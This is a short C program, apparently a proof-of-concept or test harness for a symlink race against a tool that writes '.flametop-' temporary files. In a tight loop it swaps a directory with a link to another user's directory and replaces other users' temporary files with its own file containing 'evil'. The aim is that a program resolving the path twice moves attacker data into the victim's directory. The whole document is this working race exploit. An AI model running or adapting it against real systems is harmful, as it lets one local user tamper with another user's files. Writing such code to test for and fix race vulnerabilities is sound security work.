// Swaps its directory with a link to another user's directory, as fast as it can. It also replaces each temporary file that it
// sees in its directory by its own file. A program that looks up the path twice would rename that file into the other directory.
//
//   swap DIRECTORY LINK
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words) {
    if (count != 3) return 2;
    int own = open(words[1], O_RDONLY | O_DIRECTORY);
    if (own < 0) return 1;
    for (long round = 0;; round++) {
        renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
        DIR *all = fdopendir(openat(own, ".", O_RDONLY | O_DIRECTORY));
        if (!all) continue;
        for (struct dirent *entry; (entry = readdir(all));) {
            if (strncmp(entry->d_name, ".flametop-", 10)) continue;
            struct stat about;
            if (fstatat(own, entry->d_name, &about, AT_SYMLINK_NOFOLLOW) || about.st_uid == getuid()) continue;
            unlinkat(own, entry->d_name, 0);
            int evil = openat(own, entry->d_name, O_WRONLY | O_CREAT | O_EXCL, 0666);
            if (evil >= 0) {
                write(evil, "evil", 4);
                close(evil);
            }
        }
        closedir(all);
    }
}
